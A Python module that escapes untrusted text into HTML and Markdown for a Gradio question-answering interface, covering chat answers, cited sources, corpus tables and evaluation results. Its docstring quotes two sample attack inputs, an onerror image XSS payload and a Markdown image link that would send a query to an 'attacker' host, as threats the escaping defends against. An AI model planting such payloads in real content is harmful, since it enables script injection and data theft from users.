"""HTML and Markdown for the UI, built only from escaped text.

Corpus text, file names and questions are untrusted data: a passage may hold
``<img src=x onerror=...>`` or ``![x](http://attacker/?q=...)``. Gradio's sanitiser removes
scripts but leaves Markdown images and links alone, so everything here is escaped first: HTML
entities for the panels, and additionally backslash-escaped Markdown for chat messages, which
also stops autolinks. The only markup in the output is what this module writes itself.
"""

from __future__ import annotations

import html
import logging
import re
from collections.abc import Iterable, Sequence
from typing import Any

from ingest.sanitize import display_name

logger = logging.getLogger(__name__)

# ASCII punctuation Markdown may act on; ``&`` and ``;`` stay as they are so that the entities
# written by ``html.escape`` survive (a literal ``&`` in the text has already become ``&amp;``).
_MD_PUNCTUATION = re.compile(r"([!\"#$%'()*+,\-./:<=>?@\[\\\]^_`{|}~])")
_MARKERS = re.compile(r"\[(\d+(?:\s*,\s*\d+)*)\]")
_LIST_LINE = re.compile(r"^\s*[-•*]\s+")

EMPTY_SOURCES = (
    '<div class="isecg-empty">Ask a question: the passages its answer quotes will appear here, '
    "with the quoted sentence highlighted.</div>"
)


def esc(value: object) -> str:
    """HTML-escape anything (quotes too, so the result is safe inside attributes)."""
    return html.escape(str(value), quote=True)


def escape_markdown(text: str) -> str:
    """Make text render literally in Gradio's Markdown: no HTML, images, links or emphasis."""
    return _MD_PUNCTUATION.sub(r"\\\1", html.escape(text, quote=False))


def source_anchor(turn: int, marker: int) -> str:
    """Element id of a cited passage; chat markers link here."""
    return f"isecg-src-{turn}-{marker}"


def _line_markdown(line: str, turn: int, markers: set[int]) -> str:
    """One answer line: escaped text, ``[n]`` markers as links to their passage."""
    prefix = ""
    bullet = _LIST_LINE.match(line)
    if bullet:
        prefix, line = "- ", line[bullet.end() :]
    parts, last = [prefix], 0
    for match in _MARKERS.finditer(line):
        numbers = [int(n) for n in match.group(1).split(",")]
        if not all(n in markers for n in numbers):
            continue
        parts.append(escape_markdown(line[last : match.start()]))
        parts.append("".join(f"[\\[{n}\\]](#{source_anchor(turn, n)})" for n in numbers))
        last = match.end()
    parts.append(escape_markdown(line[last:]))
    return "".join(parts)


def answer_markdown(answer: dict[str, Any], turn: int) -> str:
    """An answer for the chat: escaped, markers linked, the searched query and any fallback noted."""
    markers = {int(c["marker"]) for c in answer.get("citations", [])}
    body = "\n".join(_line_markdown(line, turn, markers) for line in str(answer.get("answer", "")).split("\n"))
    notes = []
    rewritten = answer.get("rewritten_query")
    if rewritten and rewritten != answer.get("question"):
        notes.append(f"searched for: {escape_markdown(rewritten)}")
    if answer.get("fallback_reason"):
        reason = escape_markdown(str(answer["fallback_reason"]))
        notes.append(f"answered by {escape_markdown(str(answer.get('backend', '')))}: {reason}")
    if notes:
        body += "\n\n" + "\n".join(f"*{note}*" for note in notes)
    return body


def chat_messages(turns: Sequence[dict[str, Any]]) -> list[dict[str, str]]:
    """The whole conversation as Chatbot messages, rebuilt from the turns kept in state."""
    messages: list[dict[str, str]] = []
    for n, turn in enumerate(turns, start=1):
        messages.append({"role": "user", "content": escape_markdown(str(turn.get("question", "")))})
        if "error" in turn:
            messages.append(
                {"role": "assistant", "content": f"**Not answered:** {escape_markdown(str(turn['error']))}"}
            )
        else:
            messages.append({"role": "assistant", "content": answer_markdown(turn, n)})
    return messages


# --- the sources panel ------------------------------------------------------------------------
def highlight(text: str, start: int, end: int, quote: str = "") -> str:
    """The passage with the quoted span in ``<mark>``; offsets are checked, the quote is a fallback."""
    if not (0 <= start < end <= len(text)) and quote:
        found = text.find(quote)
        start, end = (found, found + len(quote)) if found >= 0 else (0, 0)
    if not (0 <= start < end <= len(text)):
        return esc(text)
    return f"{esc(text[:start])}<mark>{esc(text[start:end])}</mark>{esc(text[end:])}"


def _where(source: str, page: int | None, section: str) -> str:
    parts = [f"<b>{esc(display_name(source))}</b>"]
    if page is not None:
        parts.append(f"p. {esc(page)}")
    if section:
        parts.append(esc(section))
    return " · ".join(parts)


def citation_card(citation: dict[str, Any], passage: dict[str, Any] | None, turn: int) -> str:
    marker = int(citation["marker"])
    score = f'<span class="isecg-score">relevance {float(passage["score"]):.3f}</span>' if passage else ""
    text = highlight(
        str(citation.get("text", "")),
        int(citation.get("quote_start", 0)),
        int(citation.get("quote_end", 0)),
        str(citation.get("quote", "")),
    )
    head = _where(str(citation.get("source", "")), citation.get("page"), str(citation.get("section", "")))
    return (
        f'<div class="isecg-card" id="{source_anchor(turn, marker)}">'
        f'<div class="isecg-card-head"><span><span class="isecg-marker">[{marker}]</span> {head}</span>{score}</div>'
        f'<div class="isecg-text">{text}</div></div>'
    )


def passage_card(passage: dict[str, Any]) -> str:
    head = _where(str(passage.get("source", "")), passage.get("page"), str(passage.get("section", "")))
    return (
        f'<div class="isecg-card isecg-passage"><div class="isecg-card-head">'
        f'<span><span class="isecg-rank">#{esc(passage.get("rank", ""))}</span> {head}</span>'
        f'<span class="isecg-score">relevance {float(passage.get("score", 0.0)):.3f}</span></div>'
        f'<div class="isecg-text">{esc(passage.get("text", ""))}</div></div>'
    )


def _turn_header(answer: dict[str, Any]) -> str:
    lines = [f'<div class="isecg-q">{esc(answer.get("question", ""))}</div>']
    rewritten = answer.get("rewritten_query")
    if rewritten and rewritten != answer.get("question"):
        lines.append(f'<div class="isecg-searched">searched for: {esc(rewritten)}</div>')
    total = answer.get("timings_ms", {}).get("total")
    timing = f" · {float(total):.0f} ms" if total is not None else ""
    lines.append(f'<div class="isecg-meta">answered by {esc(answer.get("backend", ""))}{timing}</div>')
    return "<header>" + "".join(lines) + "</header>"


def turn_sources(answer: dict[str, Any], turn: int, show_all: bool) -> str:
    """Cited passages of one answer (plus the other retrieved ones when asked for)."""
    passages = list(answer.get("passages", []))
    by_chunk = {p.get("chunk_id"): p for p in passages}
    citations = list(answer.get("citations", []))
    body = [citation_card(c, by_chunk.get(c.get("chunk_id")), turn) for c in citations]
    cited = {c.get("chunk_id") for c in citations}
    rest = [p for p in passages if p.get("chunk_id") not in cited]
    if not citations:
        body.append('<div class="isecg-note">Nothing was quoted for this answer; the closest passages were:</div>')
        body.extend(passage_card(p) for p in passages)
    elif show_all and rest:
        body.append(f'<div class="isecg-note">Other retrieved passages ({len(rest)}):</div>')
        body.extend(passage_card(p) for p in rest)
    elif rest:
        body.append(f'<div class="isecg-note">{len(rest)} more retrieved passages: tick "show all" to list them.</div>')
    return "".join(body)


def sources_html(turns: Sequence[dict[str, Any]], show_all: bool = False) -> str:
    """Sources of every answered turn; only the latest is visible, a marker click shows its own."""
    answered = [(n, t) for n, t in enumerate(turns, start=1) if "error" not in t]
    if not answered:
        return EMPTY_SOURCES
    latest = answered[-1][0]
    sections = [
        f'<section class="isecg-turn" data-turn="{n}"{"" if n == latest else " hidden"}>'
        f"{_turn_header(t)}{turn_sources(t, n, show_all)}</section>"
        for n, t in answered
    ]
    return '<div class="isecg-sources">' + "".join(sections) + "</div>"


# --- corpus and ingest ------------------------------------------------------------------------
def _table(headers: Sequence[str], rows: Iterable[Sequence[str]], css: str = "isecg-table") -> str:
    head = "".join(f"<th>{esc(h)}</th>" for h in headers)
    body = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    return f'<table class="{css}"><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table>'


def human_size(size: int) -> str:
    """Bytes as B, KiB or MiB, whichever reads best."""
    if size < 1024:
        return f"{size} B"
    if size < 2**20:
        return f"{size / 1024:.0f} KiB"
    return f"{size / 2**20:.1f} MiB"


def documents_html(records: Sequence[Any]) -> str:
    """The corpus manifest as a table (``records`` are ``ingest.store.FileRecord``)."""
    if not records:
        return '<div class="isecg-empty">No documents yet: upload PDF, TXT or Markdown files below.</div>'
    rows = [
        (
            esc(display_name(r.source)),
            esc(r.title),
            esc(r.pages if r.pages is not None else "–"),
            esc(r.chunks),
            esc(human_size(r.size)),
            esc(r.ingested_at.replace("T", " ").replace("+00:00", " UTC")),
            esc("complete" if r.status == "complete" else "incomplete: re-ingest"),
        )
        for r in records
    ]
    total = sum(r.chunks for r in records)
    caption = f'<div class="isecg-note">{len(records)} documents, {total} chunks.</div>'
    return caption + _table(["file", "title", "pages", "chunks", "size", "ingested", "status"], rows)


def file_lines_html(lines: Sequence[dict[str, Any]]) -> str:
    """What happened to each uploaded or removed file (ingest report lines plus upload checks)."""
    if not lines:
        return ""
    rows = [
        (
            esc(display_name(str(line.get("path", "")))),
            f'<span class="isecg-status-{esc(line.get("status", ""))}">{esc(line.get("status", ""))}</span>',
            esc(line.get("pages") if line.get("pages") is not None else "–"),
            esc(line.get("chunks", 0)),
            esc(" ".join(x for x in (line.get("reason") or "", line.get("detail") or "") if x)),
        )
        for line in lines
    ]
    return _table(["file", "result", "pages", "chunks", "detail"], rows)


# --- evaluation -------------------------------------------------------------------------------
def worst_items_html(items: Sequence[Any], predictions: Sequence[dict], scores: Sequence[Any], n: int = 10) -> str:
    """Wrong answers first, then weakest retrieval (the order of ``evals.report``'s worst list)."""
    rows = sorted(zip(items, predictions, scores, strict=True), key=lambda r: (r[2].correct, r[2].reciprocal_rank))
    wrong = [(item, pred) for item, pred, score in rows[:n] if not score.correct]
    if not wrong:
        return '<div class="isecg-empty">No wrong answers.</div>'
    table_rows = []
    for item, pred in wrong:
        top = pred.get("passages", [])[:1]
        first = f"{display_name(top[0]['source'])}: {' '.join(top[0]['text'].split())[:160]}…" if top else "–"
        given = pred.get("error") or " ".join(str(pred.get("answer", "")).split())[:300]
        table_rows.append(
            (
                esc(item.id),
                esc(item.type),
                esc(item.question),
                esc(", ".join(item.answers) or "(abstain)"),
                esc(given),
                esc(first),
            )
        )
    return _table(["id", "type", "question", "expected", "given", "top passage"], table_rows, "isecg-table isecg-worst")
